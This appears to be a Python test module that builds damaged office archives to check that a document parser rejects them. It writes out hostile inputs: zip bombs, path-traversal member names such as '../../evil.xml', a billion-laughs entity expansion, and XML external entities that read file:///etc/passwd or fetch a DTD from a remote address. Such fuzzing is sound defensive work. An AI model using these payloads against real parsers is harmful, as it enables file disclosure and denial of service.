"""Damage to zipped formats: bombs, lying archives, declared entities, parts that are gone."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from functools import cache
from random import Random

from tests.lists import seeds
from tests.lists.damage import Damaged, good, kind, records_in

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
DOCUMENT = "word/document.xml"
ZIPPED = (".xlsx", ".docx", ".ods")
MAIN = {".xlsx": SHEET, ".docx": DOCUMENT, ".ods": "content.xml"}
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def changed(suffix: str, **members: str | bytes) -> bytes:
    return seeds.zipped({**seeds.unzipped(good(suffix, 12)), **members})


# --- archives ----------------------------------------------------------------------------------


@cache
def _zeros(megabytes: int) -> bytes:
    return bytes(megabytes << 20)


@cache
def _bomb(member: str, megabytes: int) -> bytes:
    return seeds.zipped({member: _zeros(megabytes)})


@kind("zip bomb")
def _zip_bomb(rng: Random) -> Damaged:
    suffix = rng.choice(ZIPPED)
    member = rng.choice([MAIN[suffix], STRINGS, "xl/media/image1.png", "word/styles.xml"])
    if rng.random() < 0.3:
        return Damaged(suffix, _bomb(member, rng.choice([5, 60])), must_refuse=True)
    return Damaged(
        suffix, changed(suffix, **{member: _zeros(rng.choice([5, 60]))}), must_refuse=True
    )


@kind("zip in zip")
def _nested_zip(rng: Random) -> Damaged:
    data = _bomb("a", 5)
    for depth in range(rng.choice([1, 5, 20])):
        data = seeds.zipped(
            {f"{depth}.zip": data, rng.choice(["xl/a.zip", "b.xlsx", "c"]): data[:999]}
        )
    return Damaged(rng.choice([".xlsx", ".docx", ".csv"]), data, must_refuse=True)


@cache
def _crowd(members: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(members):
            archive.writestr(f"xl/worksheets/sheet{i}.xml", "<worksheet/>")
    return out.getvalue()


@kind("many members")
def _many_members(rng: Random) -> Damaged:
    return Damaged(".xlsx", _crowd(rng.choice([9_000, 12_000, 30_000])), must_refuse=True)


@kind("archive that lies")
def _lying(rng: Random) -> Damaged:
    """Sizes, checksums, offsets and methods in the two directories of an archive."""
    suffix = rng.choice(ZIPPED)
    data = bytearray(good(suffix, 12))
    field = rng.choice([(b"PK\x01\x02", 46), (b"PK\x03\x04", 30), (b"PK\x05\x06", 22)])
    places = [m.start() for m in re.finditer(re.escape(field[0]), bytes(data))]
    for place in rng.sample(places, k=min(len(places), rng.choice([1, 3]))):
        at = place + rng.randrange(4, field[1] - 4)
        struct.pack_into(
            "<I", data, at, rng.choice([0, 1, 0x7FFFFFFF, 0xFFFFFFFF, rng.getrandbits(32)])
        )
    return Damaged(suffix, bytes(data), records_in(suffix, 12))


@kind("members that overlap")
def _overlapping(rng: Random) -> Damaged:
    """Many entries of the directory share one packed member: few bytes, much content."""
    data = changed(".xlsx", **{SHEET: b" " * (1 << 20)})
    end = data.rindex(b"PK\x05\x06")
    count, _, size, start = struct.unpack_from("<HHII", data, end + 8)
    directory = data[start:end]
    entry = directory[: directory.index(b"PK\x01\x02", 4)]
    copies = rng.choice([50, 2_000])
    total = count + copies
    tail = data[end : end + 8] + struct.pack(
        "<HHII", total, total, size + copies * len(entry), start
    )
    return Damaged(".xlsx", data[:end] + entry * copies + tail + b"\0\0", records_in(".xlsx", 12))


@kind("member names")
def _member_names(rng: Random) -> Damaged:
    """Names that point outside: harmless, because nothing is ever unpacked to the disk."""
    name = rng.choice(
        [
            "../../evil.xml",
            "/etc/passwd",
            "C:\\evil.xml",
            "xl/../../x.rels",
            "a" * 60_000,
            "\u202e.xml",
            "",
        ]
    )
    suffix = rng.choice(ZIPPED)
    return Damaged(suffix, changed(suffix, **{name: "<x/>"}), records_in(suffix, 12))


@kind("password")
def _password(rng: Random) -> Damaged:
    """The flag of encryption in every header, as a zip program sets it."""
    suffix = rng.choice(ZIPPED)
    data = bytearray(good(suffix, 12))
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(magic), bytes(data)):
            data[found.start() + place] |= 1
    return Damaged(suffix, bytes(data), must_refuse=True)


# --- XML ---------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
_DECLARED = (
    f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>',
    '<!DOCTYPE x [<!ENTITY l0 SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>',
    '<!doctype x SYSTEM "x.dtd">',
    f'<!DOCTYPE x [<!ENTITY l0 "{"A" * 50_000}">]>',
)


@kind("entities")
def _entities(rng: Random) -> Damaged:
    suffix = rng.choice(ZIPPED)
    members = seeds.unzipped(good(suffix, 12))
    part = rng.choice([name for name in members if name.endswith((".xml", ".rels"))])
    text = re.sub(r"^<\?xml[^>]*\?>\s*", "", bytes(members[part]).decode())
    used = "&l9;" if rng.random() < 0.5 else "&l0;"
    text = rng.choice(_DECLARED) + re.sub(r">([^<\s])", lambda m: f">{used}{m[1]}", text, count=50)
    encoding = rng.choice(["utf-8", "utf-16"])
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + "\n" * rng.choice([0, 1_200_000]) + text
    return Damaged(suffix, changed(suffix, **{part: text.encode(encoding)}), must_refuse=True)


@kind("part cut or gone")
def _part_gone(rng: Random) -> Damaged:
    suffix = rng.choice(ZIPPED)
    members = seeds.unzipped(good(suffix, 12))
    part = rng.choice(sorted(members))
    content = bytes(members.pop(part))
    if rng.random() < 0.6:
        members[part] = content[: rng.randrange(len(content))] if content else b""
    return Damaged(suffix, seeds.zipped(members))


@kind("part of another")
def _part_swapped(rng: Random) -> Damaged:
    """Relationships that point to the wrong part."""
    suffix = rng.choice(ZIPPED)
    members = seeds.unzipped(good(suffix, 12))
    a, b = rng.sample(sorted(members), k=2)
    members[a], members[b] = members[b], members[a]
    return Damaged(suffix, seeds.zipped(members))


@kind("XML changed")
def _xmlchanged(rng: Random) -> Damaged:
    suffix = rng.choice(ZIPPED)
    part = rng.choice([MAIN[suffix], *([STRINGS, "xl/workbook.xml"] if suffix == ".xlsx" else [])])
    content = bytearray(seeds.unzipped(good(suffix, 12))[part])
    for _ in range(rng.choice([1, 5, 50])):
        content[rng.randrange(len(content))] = rng.choice(b'<>"&/=;A9 \0\xff')
    return Damaged(suffix, changed(suffix, **{part: bytes(content)}))
